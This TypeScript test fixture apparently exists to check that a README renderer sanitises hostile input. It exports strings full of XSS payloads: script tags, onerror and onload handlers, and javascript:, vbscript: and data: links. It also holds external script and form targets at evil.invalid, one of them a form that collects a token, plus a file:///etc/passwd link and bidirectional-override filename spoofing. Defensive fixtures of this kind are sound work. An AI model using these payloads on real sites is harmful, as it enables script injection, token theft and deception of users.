const LONG_WORD = 'W'.repeat(10_000);
const OVERRIDE = '\u202e';
const WIDE_ROW = (cell: string): string => `| ${Array<string>(60).fill(cell).join(' | ')} |`;

export const HOSTILE_TEXT = `<script>window.pwned = 1; alert(1)</script><img src=x onerror=alert(2)>"'&{{id}}${OVERRIDE}gnp.exe`;

/** Everything that a README can try on its reader. Addresses end in .invalid: a request would show, and go nowhere. */
export const HOSTILE_README = `# ${HOSTILE_TEXT}

<script>window.pwned = 1; alert(3)</script>
<script src="https://evil.invalid/x.js"></script>
<img src="https://evil.invalid/pixel.png" onerror="alert(4)">
<svg onload="alert(5)"><script>alert(6)</script></svg>
<iframe src="https://evil.invalid/"></iframe>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0; url=https://evil.invalid/">
<form action="https://evil.invalid/"><input name="token" autofocus></form>
<a href="javascript:alert(7)" onclick="alert(8)">raw link</a>
<base href="https://evil.invalid/">

![tracking](https://evil.invalid/pixel.png) ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDkpIi8+)

[script link](javascript:alert(10)) [data link](data:text/html,<script>alert(11)</script>)
[spaced link]( JaVaScRiPt:alert(12) ) [file link](file:///etc/passwd) [relative link](//evil.invalid/x)
[odd link](vbscript:msgbox) <javascript:alert(13)> [good link](https://example.org/guide "title")

[reference link][r]

[r]: javascript:alert(14)

Bidirectional ${OVERRIDE}txt.exe\u2066 isolate, unclosed.

${LONG_WORD}

\`${LONG_WORD}\`

    ${LONG_WORD}

${WIDE_ROW('head')}
${WIDE_ROW('---')}
${Array.from({ length: 40 }, (_, row) => WIDE_ROW(`cell ${row}`)).join('\n')}

${'> '.repeat(40)}deep

${'- '.repeat(30)}nested
`;
